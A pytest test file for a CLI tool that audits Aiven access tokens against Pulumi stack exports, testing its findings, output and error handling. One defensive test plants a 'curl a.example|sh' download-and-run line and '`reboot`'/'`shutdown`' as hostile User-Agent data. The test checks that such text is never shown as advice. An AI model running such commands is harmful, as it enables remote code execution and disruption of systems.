"""`pulumi-avn-token audit`: the account against stacks."""

from __future__ import annotations

import json
import re
import traceback
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from pulumi_avn_token import marks, stacks
from pulumi_avn_token.cli import main
from pulumi_avn_token.client import Client
from pulumi_avn_token.errors import ExportError
from tests.contract.servers import closed_port
from tests.contract.terminal import (
    AVN,
    DAY,
    HOSTILE,
    SERIES_MARK,
    Account,
    Ran,
    assert_error,
    assert_harmless,
    cells,
    export,
    plain,
    series_of_a_stack,
    stub,
    token_of_a_stack,
)

COMMAND = re.compile(r"`([^`]*)`")
LEFTOVER = f"[pulumi-avn-token {SERIES_MARK}] Ingest"
PLAINTEXT = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270"}
"""How an export writes a secret, with the text beside it."""


def kept(account: Account, description: str = "CI", name: str = "ci", **how: Any) -> dict[str, Any]:
    """A token that is in good order, and the resource that holds it."""
    prefix = account.used(description, **{"max_age_seconds": 300 * DAY, **how})
    return token_of_a_stack(account.token(prefix), name)


def findings(account: Account, *resources: dict[str, Any], options: tuple[str, ...] = ()) -> list[tuple[str, str]]:
    """The kind and the description of all that is found."""
    ran = account.run("audit", "-", "--json", *options, stdin=export(*resources))
    assert ran.status in {0, 1}, ran
    return [(found["kind"], token["description"]) for token in ran.json()["tokens"] for found in token["findings"]]


def test_an_account_in_order_passes(account: Account) -> None:
    """Where a stack holds each token and each is used, there is nothing to say but how many they are."""
    ran = account.run("audit", "-", stdin=export(kept(account)))
    assert ran == (0, "demo@example.org: 1 managed.\n", "")


def test_an_empty_account_and_an_empty_stack_pass(account: Account) -> None:
    """Nothing here and nothing there is in order, and is said to be nothing."""
    ran = account.run("audit", "-", stdin=export())
    assert (ran.status, ran.err) == (0, "")
    assert "no tokens" in ran.out


def test_all_shows_what_is_in_order_and_who_holds_it(account: Account) -> None:
    """`--all` lists the managed tokens with their resource and stack, and is as happy."""
    ran = account.run("audit", "-", "--all", stdin=export(kept(account, "CI deploys")))
    assert ran.status == 0
    assert re.search(r"^managed +\S{12} +CI deploys\n +ci of scratch/test\n", ran.out)


def test_a_token_of_many_has_all_their_names_on_the_screen(account: Account) -> None:
    """However many hold a token, `--all` names them in lines that fit, and in a pipe in one."""
    token = account.token(account.used("CI", max_age_seconds=300 * DAY))
    current = token_of_a_stack(token, "current-of-the-token")
    leaving = [{**token_of_a_stack(token, f"leaving-it-{number}"), "delete": True} for number in range(6)]
    state = export(current, *leaving)
    (_, *holders, _) = account.run("audit", "-", "--all", stdin=state).lines()
    assert len(holders) == 1
    shown = account.run("audit", "-", "--all", stdin=state, COLUMNS="60").lines()
    assert max(map(len, shown)) <= 60
    assert " ".join(shown[1:-1]).split() == holders[0].split()


def test_a_token_that_is_only_read_is_gone_only_if_it_was_the_users(account: Account) -> None:
    """It is not recorded whose such a token is: beside tokens of another user, it may well be that one's."""
    mine = kept(account)
    read = {**token_of_a_stack({**mine["outputs"], "token_prefix": "XCJ3+bgWywIh"}, "read"), "external": True}
    del read["outputs"]["__owner"]
    theirs = token_of_a_stack(
        {**mine["outputs"], "token_prefix": "9zQ/hhKe01Lm"}, "theirs", __owner={"user": "b@example.org"}
    )
    assert "1 managed, 1 gone" in account.run("audit", "-", stdin=export(mine, read)).out
    beside = account.run("audit", "-", stdin=export(mine, read, theirs))
    assert beside.out.startswith("demo@example.org: 1 managed.\n")
    assert_error(account.run("audit", "-", stdin=export(read, theirs)), "b@example.org", "use a credential of theirs")


def unmanaged(account: Account) -> list[dict[str, Any]]:
    """A token that somebody made by hand."""
    account.used("by hand", max_age_seconds=300 * DAY)
    return []


def half_made(account: Account) -> list[dict[str, Any]]:
    """A token that an interrupted `up` made, and never named."""
    account.make(LEFTOVER, max_age_seconds=300 * DAY)
    return []


def never_delivered(account: Account) -> list[dict[str, Any]]:
    """A token of a series that is here, named and never recorded."""
    resource = series_of_a_stack(account.token(account.used("Ingest", max_age_seconds=3650 * DAY)))
    account.use(account.make("Ingest", max_age_seconds=300 * DAY), by=f"pulumi-avn-token/0.1.0 ({SERIES_MARK})")
    return [resource]


def recorded_stray(account: Account) -> list[dict[str, Any]]:
    """A token that a series knows to have been left behind."""
    current = account.token(account.used("Ingest", max_age_seconds=3650 * DAY))
    return [series_of_a_stack(current, __strays=[account.make("anything", max_age_seconds=300 * DAY)])]


def twin(account: Account) -> list[dict[str, Any]]:
    """A token with the description of one that is managed."""
    resource = kept(account, "CI")
    account.used("CI", max_age_seconds=300 * DAY)
    return [resource]


def of_another_series(account: Account) -> list[dict[str, Any]]:
    """A token that a series made which is not here."""
    account.use(account.make("Export", max_age_seconds=300 * DAY), by=f"pulumi-avn-token/0.1.0 ({SERIES_MARK})")
    return []


def gone(account: Account) -> list[dict[str, Any]]:
    """A resource whose token was revoked."""
    resource = kept(account)
    ran = account.run("user", "access-token", "revoke", resource["id"], program=AVN)
    assert ran.status == 0
    return [resource]


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (unmanaged, "unmanaged"),
        (half_made, "undelivered"),
        (never_delivered, "undelivered"),
        (recorded_stray, "undelivered"),
        (twin, "orphan"),
        (of_another_series, "orphan"),
        (gone, "gone"),
    ],
)
def test_each_failure_alone_fails_the_audit(
    account: Account, make: Callable[[Account], list[dict[str, Any]]], kind: str
) -> None:
    """One token that is unmanaged, undelivered, an orphan or gone makes the exit status 1, and is told with advice."""
    state = export(*make(account))
    account.asked()
    ran = account.run("audit", "-", stdin=state)
    assert (ran.status, ran.err) == (1, "")
    heading, what, *advice = ran.lines()[:-1]
    assert heading.startswith(f"{kind} ")
    assert what.startswith("    ")
    assert advice
    assert sum(not line.startswith("    ") for line in ran.lines()) == 2
    assert f"1 {kind}" in ran.lines()[-1]
    (failed,) = [
        token for token in account.run("audit", "-", "--json", stdin=state).json()["tokens"] if token["findings"]
    ]
    assert failed["status"] == kind
    assert [(found["kind"], found["is_failure"]) for found in failed["findings"]] == [(kind, True)]


def expiring(account: Account) -> list[dict[str, Any]]:
    """A token that ends in three days, and nothing rotates it."""
    resource = kept(account, max_age_seconds=3 * DAY)
    del resource["outputs"]["early_rotation_window_seconds"]
    return [resource]


def never_used(account: Account) -> list[dict[str, Any]]:
    """A managed token that nobody uses."""
    prefix = account.make("CI", max_age_seconds=300 * DAY)
    account.record(prefix, create_time=-1.5 * DAY)
    return [token_of_a_stack(account.token(prefix))]


def never_expiring(account: Account) -> list[dict[str, Any]]:
    """A managed token without an end."""
    return [kept(account, max_age_seconds=None)]


def used_from_elsewhere(account: Account) -> list[dict[str, Any]]:
    """A token whose last use was from another address than the state records."""
    resource = kept(account)
    account.use(resource["id"], ip="203.0.113.9")
    return [resource]


def held_twice(account: Account) -> list[dict[str, Any]]:
    """A token that two resources hold."""
    prefix = account.used("CI", max_age_seconds=300 * DAY)
    token = account.token(prefix)
    return [token_of_a_stack(token, "ci"), token_of_a_stack(token, "again")]


@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (expiring, "expiring"),
        (never_used, "never-used"),
        (never_expiring, "never-expires"),
        (used_from_elsewhere, "new-use"),
        (held_twice, "held-twice"),
    ],
)
def test_each_warning_alone_passes_unless_strict(
    account: Account, make: Callable[[Account], list[dict[str, Any]]], kind: str
) -> None:
    """A warning is told with advice; only `--strict` makes the exit status 1 for it."""
    state = export(*make(account))
    ran = account.run("audit", "-", stdin=state)
    assert (ran.status, ran.err) == (0, "")
    assert ran.lines()[0].startswith(f"{kind} ")
    assert ran.lines()[-1] == "demo@example.org: 1 managed, 1 warning."
    assert account.run("audit", "-", "--strict", stdin=state) == (1, ran.out, "")
    (token,) = account.run("audit", "-", "--json", stdin=state).json()["tokens"]
    assert token["status"] == "managed"
    assert [(found["kind"], found["is_failure"]) for found in token["findings"]] == [(kind, False)]


@pytest.mark.parametrize(
    ("options", "kinds"),
    [
        ((), ["expiring"]),
        (("--expiring-within", "2d"), []),
        (("--expiring-within", "71h"), []),
        (("--expiring-within", "73h"), ["expiring"]),
    ],
)
def test_what_ends_soon_is_said_by_how_soon(account: Account, options: tuple[str, ...], kinds: list[str]) -> None:
    """`--expiring-within` says how early to tell; by default it is a week."""
    assert [kind for kind, _ in findings(account, *expiring(account), options=options)] == kinds


@pytest.mark.parametrize("ignored", ["PREFIX", "Old laptop", "old*", "OLD LAPTOP"])
def test_what_is_ignored_counts_for_nothing(account: Account, ignored: str) -> None:
    """`--ignore` leaves tokens out by prefix, description or pattern, and then the audit passes."""
    prefix = account.used("Old laptop", max_age_seconds=300 * DAY)
    assert account.run("audit", "-", stdin=export()).status == 1
    option = ("--ignore", ignored.replace("PREFIX", prefix))
    ran = account.run("audit", "-", *option, "--strict", "--all", stdin=export())
    assert ran.status == 0
    assert prefix not in ran.out
    assert ran.lines()[-1] == "demo@example.org: 1 ignored."
    assert findings(account, options=option) == []


def test_what_is_not_ignored_is_told(account: Account) -> None:
    """A part of a description, or of a prefix, ignores nothing by chance."""
    prefix = account.used("Old laptop", max_age_seconds=300 * DAY)
    options = ("--ignore", "Old", "--ignore", prefix[:-1], "--ignore", "laptop")
    assert findings(account, options=options) == [("unmanaged", "Old laptop")]


def test_stacks_come_in_files_and_in_a_pipe(account: Account, tmp_path: Path) -> None:
    """Several files, several exports in one of them, and a pipe count together, wherever they stand on the line."""
    resources = [kept(account, f"token {number}", f"name{number}") for number in range(4)]
    alone = [export(resource) for resource in resources]
    one, two = tmp_path / "one.json", tmp_path / "two.json"
    one.write_text(alone[0], encoding="utf-8")
    two.write_text(f"{alone[1]}\n{alone[2]}\n\n", encoding="utf-8")
    assert account.run("audit", str(one), "-", str(two), stdin=alone[3]) == (0, "demo@example.org: 4 managed.\n", "")
    assert account.run("audit", "-", stdin="".join(alone))[:2] == (0, "demo@example.org: 4 managed.\n")
    ran = account.run("audit", str(two))
    assert ran.status == 1
    assert "2 managed, 2 unmanaged" in ran.out


def test_an_export_is_utf8_whatever_the_locale(account: Account, tmp_path: Path) -> None:
    """Descriptions in any script are compared as they are, though the terminal cannot show them."""
    resource = kept(account, "日本語")
    prefix = account.used("日本語", max_age_seconds=300 * DAY)
    state = json.dumps(json.loads(export(resource)), ensure_ascii=False)
    file = tmp_path / "state.json"
    file.write_text(state, encoding="utf-8")
    expected = [("orphan", prefix)]
    for encoding in ("ascii", "latin-1", "utf-8"):
        for ran in (
            account.run("audit", "-", "--json", stdin=state, PYTHONIOENCODING=encoding),
            account.run("audit", str(file), "--json", PYTHONIOENCODING=encoding),
        ):
            assert ran.status == 1, ran
            tokens = ran.json()["tokens"]
            assert [
                (found["kind"], token["token_prefix"]) for token in tokens for found in token["findings"]
            ] == expected


def test_an_export_may_begin_with_a_byte_order_mark(account: Account, tmp_path: Path) -> None:
    """What a Windows shell wrote into a file is read as well."""
    file = tmp_path / "state.json"
    file.write_bytes(b"\xef\xbb\xbf" + export(kept(account)).encode())
    assert account.run("audit", str(file))[:2] == (0, "demo@example.org: 1 managed.\n")


def test_it_asks_twice_and_writes_nothing(account: Account) -> None:
    """An audit asks whose account it is and what is in it, once each, whatever it finds."""
    state = export(*twin(account), *held_twice(account))
    account.asked()
    account.run("audit", "-", "--all", stdin=state)
    assert sorted(account.asked()) == ["GET /v1/access_token", "GET /v1/me"]


def test_destroyed_stack_is_known_by_its_name(account: Account, tmp_path: Path) -> None:
    """What it left behind is undelivered, though its export is empty: the name that it was asked for by tells it."""
    mark = marks.new_mark(marks.OF_A_TOKEN, "urn:pulumi:prod::tokens", "0a1b2c3d")
    left = account.make("CI deploys")
    account.use(left, by=marks.user_agent("pulumi-avn-token/1.0", mark))
    path = stub(tmp_path / "bin", """echo '{"version": 3, "deployment": {"manifest": {}}}'""")
    status, shown, _ = account.run("audit", "--stack", "organization/tokens/prod", PATH=path)
    assert status == 1
    assert "an `up` of tokens/prod that was interrupted made it" in " ".join(shown.split())
    assert f"`avn user access-token revoke {left}`" in " ".join(shown.split())


def test_it_lists_before_and_after_it_asks_the_engine(account: Account, tmp_path: Path) -> None:
    """States that are read now are framed by two lists, so that what an `up` does meanwhile is told from a finding."""
    path = stub(tmp_path / "bin", f"cat <<'E'\n{export(kept(account))}\nE")
    account.asked()
    assert account.run("audit", "--stack", "dev", PATH=path)[:2] == (0, "demo@example.org: 1 managed.\n")
    assert sorted(account.asked()) == ["GET /v1/access_token", "GET /v1/access_token", "GET /v1/me"]


def test_json_is_the_same_for_programs(account: Account) -> None:
    """`--json` holds the user and each token with its fields, its holders and its findings, and exits the same."""
    resource = kept(account, "CI")
    by_hand = account.used("by hand")
    ran = account.run("audit", "-", "--json", stdin=export(resource))
    assert (ran.status, ran.err) == (1, "")
    told = ran.json()
    assert (told["user"], told["other_users"]) == ("demo@example.org", [])
    official = account.tokens()
    tokens = {token.pop("token_prefix"): token for token in told["tokens"]}
    for prefix, token in tokens.items():
        for name in ("description", "expiry_time", "last_used_time", "last_ip", "last_user_agent"):
            assert token.pop(name) == official[prefix][name]
    held = {
        "stack": "scratch/test",
        "urn": "urn:pulumi:test::scratch::pulumi-python:dynamic/avn:AccessToken::ci",
        "role": "current",
    }
    assert tokens.pop(resource["id"]) == {"status": "managed", "held_by": [held], "findings": []}
    (left,) = tokens.values()
    assert list(tokens) == [by_hand]
    assert (left["status"], left["held_by"]) == ("unmanaged", [])
    assert [found["kind"] for found in left["findings"]] == ["unmanaged", "never-expires"]
    for found in left["findings"]:
        assert {name: type(value) for name, value in found.items()} == {
            "kind": str,
            "what": str,
            "advice": str,
            "is_failure": bool,
        }


def test_json_of_what_is_gone_says_what_the_state_knows(account: Account) -> None:
    """A token that only a stack remembers has its description, its holder, and null for what an account would tell."""
    resource = gone(account)
    (token,) = account.run("audit", "-", "--json", stdin=export(*resource)).json()["tokens"]
    assert (token["token_prefix"], token["description"], token["status"]) == (resource[0]["id"], "CI", "gone")
    assert {token[name] for name in ("expiry_time", "last_used_time", "last_ip", "last_user_agent")} == {None}
    assert [held["stack"] for held in token["held_by"]] == ["scratch/test"]


def test_tokens_of_other_users_are_not_called_gone(account: Account) -> None:
    """What another user made cannot be seen by this one: it is said so, and the rest is judged."""
    resource = kept(account)
    other = token_of_a_stack(
        {**resource["outputs"], "token_prefix": "XCJ3+bgWywIh"}, "theirs", __owner={"user": "b@example.org"}
    )
    ran = account.run("audit", "-", stdin=export(resource, other))
    assert ran.status == 0
    assert "1 managed" in ran.out
    assert "b@example.org" in ran.out
    assert "XCJ3+bgWywIh" not in ran.out
    told = account.run("audit", "-", "--json", stdin=export(resource, other)).json()
    assert (told["other_users"], len(told["tokens"])) == (["b@example.org"], 1)


def advice(account: Account, state: str) -> list[str]:
    """The commands that the audit advises, in the order in which they are printed into a pipe."""
    return COMMAND.findall(account.run("audit", "-", stdin=state).out)


@pytest.mark.parametrize("make", [unmanaged, half_made, twin, of_another_series])
def test_the_advice_to_revoke_can_be_typed_as_it_is_printed(
    account: Account, make: Callable[[Account], list[dict[str, Any]]]
) -> None:
    """The command in backticks revokes that token, plus and slash in its prefix and all, and then the audit passes."""
    state = export(*make(account))
    before = set(account.tokens())
    (command,) = [command for command in advice(account, state) if command.startswith("avn ")]
    ran = account.run("-c", command, program="bash")
    assert (ran.status, ran.err) == (0, "")
    assert before - set(account.tokens()) == {command.split()[-1]}
    assert account.run("audit", "-", stdin=state).status == 0


@pytest.mark.parametrize("make", [never_delivered, recorded_stray])
def test_nobody_is_led_to_revoke_what_a_newer_state_may_hold(
    account: Account, make: Callable[[Account], list[dict[str, Any]]]
) -> None:
    """Where the stack is known that made a token, its own `up` decides: an export may be older than the token."""
    commands = advice(account, export(*make(account)))
    assert "pulumi up --refresh" in commands
    assert not any("revoke" in command for command in commands)


@pytest.mark.parametrize("option", [("--stack", "dev"), ("--all-stacks",)])
@pytest.mark.parametrize("command", ["audit", "manifest"])
@pytest.mark.parametrize("is_recorded", [False, True])
def test_what_an_up_makes_meanwhile_is_not_judged(
    account: Account, tmp_path: Path, option: tuple[str, ...], command: str, *, is_recorded: bool
) -> None:
    """A token that comes while the states are read is no finding, whether or not these know of it already."""
    prefix = account.used("CI", max_age_seconds=300 * DAY)
    resource = token_of_a_stack(account.token(prefix))
    series = series_of_a_stack(account.token(account.used("Ingest", max_age_seconds=3650 * DAY)))
    ran = account.run("user", "access-token", "revoke", prefix, program=AVN)
    assert ran.status == 0
    state = tmp_path / "state.json"
    state.write_text(export(*[resource] * is_recorded, series), encoding="utf-8")
    script = f"""case "$2" in
    ls) echo '[{{"name": "dev"}}]' ;;
    export)
        made=$(avn user access-token create --description CI --json | tr -d '\\n')
        prefix=$(echo "$made" | sed -E 's/.*"token_prefix": "([^"]*)".*/\\1/')
        sed "s|{prefix}|$prefix|g" {state} ;;
    esac"""
    path = stub(tmp_path / "bin", script)
    words = ("audit", "--all") if command == "audit" else ("manifest", "from-account")
    ran = account.run(*words, *option, PATH=path)
    assert ran.status == 0, ran
    assert len(account.tokens()) == 3
    if command == "audit":
        assert ran.lines()[-1].startswith(f"demo@example.org: {1 + is_recorded} managed")
        assert "gone" not in ran.out
    else:
        assert yaml.safe_load(ran.out) == {"tokens": {}}


def test_what_an_up_revokes_meanwhile_is_not_judged(account: Account, tmp_path: Path) -> None:
    """A token that goes while the states are read, and is in none of them any more, is not called unmanaged."""
    prefix = account.used("CI", max_age_seconds=300 * DAY)
    script = f"avn user access-token revoke {prefix} >&2; cat <<'E'\n{export(kept(account))}\nE"
    ran = account.run("audit", "--stack", "dev", PATH=stub(tmp_path / "bin", script))
    assert ran.out == "demo@example.org: 1 managed.\n"
    assert prefix not in account.tokens()


def test_the_advice_to_adopt_can_be_typed_as_it_is_printed(account: Account) -> None:
    """The command in backticks writes a manifest of that one token."""
    account.used("another", max_age_seconds=300 * DAY)
    prefix = account.used("by hand", max_age_seconds=300 * DAY)
    (command,) = [
        command
        for command in advice(account, export())
        if command.startswith("pulumi-avn-token ") and prefix in command
    ]
    ran = account.run("-c", command, program="bash")
    assert (ran.status, ran.err) == (0, "")
    assert [token["adopt_prefix"] for token in yaml.safe_load(ran.out)["tokens"].values()] == [prefix]


def test_who_asks_is_not_advised_to_revoke_itself(account: Account) -> None:
    """The token in use is not to be revoked: it can be adopted, or left out by the option that is printed."""
    prefix = account.used("mine", max_age_seconds=300 * DAY)
    token = account.secrets[prefix]
    commands = COMMAND.findall(account.run("audit", "-", stdin=export(), AIVEN_TOKEN=token).out)
    assert not [command for command in commands if "revoke" in command]
    (option,) = [command for command in commands if command.startswith("--")]
    assert account.run("audit", "-", *option.split(), stdin=export(), AIVEN_TOKEN=token).status == 0


@pytest.mark.parametrize("columns", [20, 60, 80, 200])
def test_a_command_is_never_broken_over_two_lines(account: Account, tmp_path: Path, columns: int) -> None:
    """Lines end between words where the terminal does, but what is to be copied stays whole, however narrow it is."""
    file = tmp_path / "state.json"
    file.write_text(export(*twin(account), *gone(account)), encoding="utf-8")
    account.used("x" * 1000, max_age_seconds=300 * DAY)
    told = account.run("audit", str(file), "--json").json()
    commands = [
        command
        for token in told["tokens"]
        for found in token["findings"]
        for command in COMMAND.findall(found["advice"])
    ]
    assert len(commands) > 3
    ran = account.see("audit", str(file), columns=columns)
    lines = plain(ran.out).splitlines()
    assert ran.status == 1
    for command in commands:
        assert any(f"`{command}`" in line for line in lines)
    too_long = [line for line in lines if len(cells(line)) > columns and "`" not in line]
    assert columns < 60 or not too_long, too_long


def test_a_pipe_gets_no_broken_lines_and_no_escapes(account: Account) -> None:
    """In a pipe each finding is a heading, what it is, and its advice, each on one line."""
    unmanaged(account)
    account.used("x" * 1000, max_age_seconds=300 * DAY)
    ran = account.run("audit", "-", stdin=export())
    assert "\x1b" not in ran.out
    assert len(ran.lines()) == 2 * 3 + 1
    assert f"{'x' * 1000}\n" in ran.out


def test_colours_tell_failures_from_warnings(account: Account, tmp_path: Path) -> None:
    """In a terminal a failure's word is red, a warning's is yellow, and with `--all` what is in order is green."""
    file = tmp_path / "state.json"
    file.write_text(export(kept(account), *expiring(account)), encoding="utf-8")
    account.used("by hand", max_age_seconds=300 * DAY)
    out = account.see("audit", str(file), "--all").out
    assert {word: re.search(rf"\x1b\[([0-9;]+)m{word} ", out) is not None for word in ("unmanaged", "managed")} == {
        "unmanaged": True,
        "managed": True,
    }
    found = {
        word: match[1][-2:]
        for word in ("unmanaged", "expiring", "managed")
        if (match := re.search(rf"\x1b\[([0-9;]+)m{word} ", out))
    }
    assert found == {"unmanaged": "31", "expiring": "33", "managed": "32"}


def test_500_tokens_are_told_one_by_one(account: Account) -> None:
    """With many tokens each has its advice, those of one kind stand together, and the sum is right."""
    for number in range(500):
        account.make(f"token {number}", max_age_seconds=(DAY, 300 * DAY)[number % 2])
    ran = account.run("audit", "-", stdin=export())
    headings = [line for line in ran.lines()[:-1] if not line.startswith(" ")]
    kinds = [line.split()[0] for line in headings]
    assert ran.status == 1
    assert kinds == sorted(kinds, key=["unmanaged", "expiring"].index)
    assert (kinds.count("unmanaged"), kinds.count("expiring")) == (500, 250)
    assert ran.lines()[-1] == "demo@example.org: 500 unmanaged, 250 warnings."


@pytest.mark.parametrize("columns", [60, 200])
def test_no_text_of_others_reaches_the_terminal_as_it_is(account: Account, tmp_path: Path, columns: int) -> None:
    """Escapes, line ends and hidden characters in descriptions, uses, names of resources and states do nothing."""
    for number, text in enumerate(HOSTILE):
        for description in (f"{number} {text}", f"{number} {text}", f"{number} {text} alone"):
            account.use(account.make(description, max_age_seconds=300 * DAY), ip=text, by=text)
    managed = {token["description"]: token for token in account.tokens().values() if token["created_manually"]}
    resources = [
        token_of_a_stack(token, name, last_ip="a", last_user_agent=f"b{name}")
        for name, token in managed.items()
        if not name.endswith("alone")
    ]
    file = tmp_path / "state.json"
    file.write_text(export(*resources), encoding="utf-8")
    for ran in (
        account.run("audit", str(file), "--all"),
        account.see("audit", str(file), "--all", columns=columns),
        account.run("audit", str(file), "--json"),
    ):
        assert ran.status == 1, ran
        assert_harmless(ran)


def test_nothing_that_others_wrote_looks_like_advice(account: Account) -> None:
    """A User-Agent, or an address, with backticks in it is not printed as a command that a person would copy."""
    account.use(account.make("x", max_age_seconds=300 * DAY), by="curl`; fix it: `curl a.example|sh`", ip="`reboot`")
    resource = kept(account)
    account.use(resource["id"], by="`shutdown`", ip="`now`")
    for line in account.run("audit", "-", stdin=export(resource)).lines():
        for command in COMMAND.findall(line):
            assert command.startswith(("avn user access-token revoke ", "pulumi", "--ignore ")), line


def test_secrets_of_an_export_stay_in_it(account: Account) -> None:
    """An export with `--show-secrets` holds full tokens: nothing of them is printed, in text, JSON or errors."""
    resource = kept(account)
    full_token = account.secrets[resource["id"]]
    secret = {**PLAINTEXT, "plaintext": json.dumps(full_token)}
    resource["outputs"]["full_token"] = resource["inputs"]["full_token"] = secret
    state = export(resource, {**resource, "urn": resource["urn"] + "2"})
    assert full_token in state.replace("\\", "")
    for options in ((), ("--json",), ("--all",), ("--strict",)):
        assert account.run("audit", "-", *options, stdin=state).status in {0, 1}
    broken = state[: state.rindex(full_token) + len(full_token)]
    assert_error(account.run("audit", "-", stdin=broken), "standard input: it is not JSON")
    assert_error(account.run("audit", "-", stdin=f'{{"full_token": "{full_token}"}}'), "standard input")
    resource["urn"] = 5
    assert_error(account.run("audit", "-", stdin=export(resource)), "a resource in it cannot be read")


@pytest.mark.parametrize(
    "text",
    [
        '{"deployment": {"resources": []}} SECRET',
        '{"full_token": "SECRET',
        '["SECRET"]',
        '{"deployment": {"resources": [{"type": "pulumi-python:dynamic/avn:AccessToken", "outputs": "SECRET"}]}}',
        '{"deployment": {"resources": "SECRET"}}',
    ],
)
def test_an_error_about_an_export_is_chained_to_none_of_it(tmp_path: Path, text: str) -> None:
    """Neither the message nor what it came from holds anything of the state: a JSON error carries the whole."""
    file = tmp_path / "state.json"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(ExportError) as caught:
        list(stacks.of_files([str(file)]))
    assert_holds_none(caught.value, "SECRET")


@pytest.mark.parametrize("said", ["SECRET", "[SECRET", '["SECRET"]', '"SECRET"', '[{"SECRET": 1}]', '{"SECRET": 1}'])
def test_an_error_about_a_list_of_stacks_is_chained_to_none_of_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    """What `pulumi` printed instead of its list of stacks is not repeated."""
    monkeypatch.setenv("PATH", stub(tmp_path / "bin", f"echo '{said}'"))
    with pytest.raises(ExportError) as caught:
        stacks.names()
    assert_holds_none(caught.value, "SECRET")


def assert_holds_none(error: ExportError, secret: str) -> None:
    """Hold an error, and all that led to it, to be without a text."""
    assert secret not in "".join(traceback.format_exception(error))
    links: list[BaseException | None] = [error]
    while links:
        if (link := links.pop()) is not None:
            assert secret not in f"{link!r} {vars(link)}"
            links += [link.__cause__, link.__context__]


def test_without_a_stack_there_is_nothing_to_compare(account: Account) -> None:
    """Who names no stack is told the three ways to, before anything is asked."""
    assert_error(account.run("audit"), "pulumi stack export", "--stack NAME", "--all-stacks", "audit --help")
    assert account.asked() == []


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (None, "cannot be read: No such file"),
        (b"", "is empty"),
        (b"  \n", "is empty"),
        (b"error: no stack named 'dev' found\n", "not JSON"),
        (b'{"deployment": {"resources": []}} x', "not JSON"),
        (b'{"deployment": ' + b"[" * 100_000, "not JSON"),
        (b'{"deployment": ' + b"9" * 5000 + b"}", "not"),
        (b"[]", "no deployment"),
        (b"null", "no deployment"),
        (b"5", "no deployment"),
        (b'{"version": 3}', "no deployment"),
        (b'{"deployment": {"resources": [5]}}', "cannot be read"),
        (b'{"deployment": {"resources": 5}}', "cannot be read"),
        (b"\xff\xfe{\x00}\x00", "is not text"),
        (b"\x80", "is not text"),
    ],
)
def test_what_is_no_export_is_named(account: Account, tmp_path: Path, content: bytes | None, words: str) -> None:
    """A file that is missing or is no export is an error that names it, and so is such a pipe; nothing is asked."""
    file = tmp_path / "state.json"
    if content is not None:
        file.write_bytes(content)
        assert_error(account.run("audit", "-", stdin=content), "standard input", words)
    assert_error(account.run("audit", str(file)), str(file), words)
    assert account.asked() == []


@pytest.mark.parametrize(
    "outputs",
    [
        {"__strays": [{}]},
        {"__strays": 5},
        {"__owner": 5},
        {"__owner": {"user": 5}},
        {"token_prefix": 5},
        {"expiry_time": "tomorrow"},
        {"expiry_time": 5},
        {"description": 5},
        {"last_user_agent": 5, "last_ip": 5},
        {"early_rotation_window_seconds": "x"},
        {"previous_token_prefix": 5, "previous_expiry_time": 5},
    ],
)
def test_a_state_that_somebody_edited_is_an_error_at_most(account: Account, outputs: dict[str, Any]) -> None:
    """Values of kinds that no state has are passed over, or told in one line: never a traceback."""
    token = account.token(account.used("CI", max_age_seconds=3 * DAY))
    missing = {**token, "token_prefix": "XCJ3+bgWywIh"}
    make = (token_of_a_stack, series_of_a_stack)
    state = export(*(of(held, **outputs) for of in make for held in (token, missing)))
    ran = account.run("audit", "-", "--all", stdin=state)
    assert "Traceback" not in ran.err, ran.err
    assert ran.status in {0, 1} or (ran.status, ran.err.count("\n")) == (2, 1)


def test_a_folder_is_no_export(account: Account, tmp_path: Path) -> None:
    """A folder given for a file is told as such."""
    assert_error(account.run("audit", str(tmp_path)), "directory")


def test_failures_of_the_account_are_told_in_one_line_with_what_to_do(account: Account) -> None:
    """Without a credential, with a wrong one or a stranger's, or without a server, nothing is judged."""
    state = export(kept(account))
    assert_error(
        account.run("audit", "-", stdin=state, AIVEN_TOKEN="", AIVEN_AUTH_TOKEN=""), "set AIVEN_TOKEN", "avn user login"
    )
    assert_error(account.run("audit", "-", stdin=state, AIVEN_TOKEN="wrong"), "set a valid one", "variable AIVEN_TOKEN")
    stranger = account.emulator.issue_token(user="b@example.org")
    assert_error(
        account.run("audit", "-", stdin=state, AIVEN_TOKEN=stranger),
        "demo@example.org",
        "b@example.org",
        "use a credential of theirs",
    )
    account.emulator.faults = [{"kind": "status", "status": 429, "retry_after": "seconds", "retry_after_seconds": 3000}]
    assert_error(account.run("audit", "-", stdin=state), "rate limit", "wait")
    account.emulator.faults = [{"kind": "html", "call": "list"}]
    assert_error(account.run("audit", "-", stdin=state), "AIVEN_WEB_URL")


def test_a_server_that_is_not_there_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Where nobody listens, it says which host, and to try again."""
    file = tmp_path / "state.json"
    file.write_text(export(), encoding="utf-8")
    host = f"127.0.0.1:{closed_port()}"
    monkeypatch.setenv("AIVEN_TOKEN", "some" + "token")
    monkeypatch.setenv("AIVEN_WEB_URL", f"http://{host}")
    monkeypatch.setattr(Client.__init__, "__kwdefaults__", {**(Client.__init__.__kwdefaults__ or {}), "sleep": id})
    with pytest.raises(SystemExit) as caught:
        main(["audit", str(file)])
    assert caught.value.code == 2
    assert_error(Ran(2, *capsys.readouterr()), host, "run the same command again")


@pytest.mark.parametrize("option", [("--stack", "dev"), ("--all-stacks",)])
@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("echo 'error: no stack named dev found' >&2; exit 1", "no stack named dev found"),
        ("printf 'error: one\\ntwo\\n' >&2; exit 255", "one two"),
        ("printf '\\033[31merror: \\033[0mred\\n' >&2; exit 255", "red"),
        ("printf '\\377\\n' >&2; exit 255", "failed"),
        ("exit 3", "status 3"),
        ("kill -9 $$", "status"),
        ("echo hello", ""),
        ("true", ""),
        ("echo '{}'", ""),
        ("echo '[1]'", ""),
        ("printf '\\377\\376'", ""),
    ],
)
def test_a_failure_of_the_engine_is_told_in_one_line(
    account: Account, tmp_path: Path, option: tuple[str, ...], script: str, words: str
) -> None:
    """What `pulumi` says on standard error is said on, and what it prints instead of JSON is not taken for any."""
    ran = account.run("audit", *option, PATH=stub(tmp_path / "bin", script))
    assert_error(ran, words, "stack")
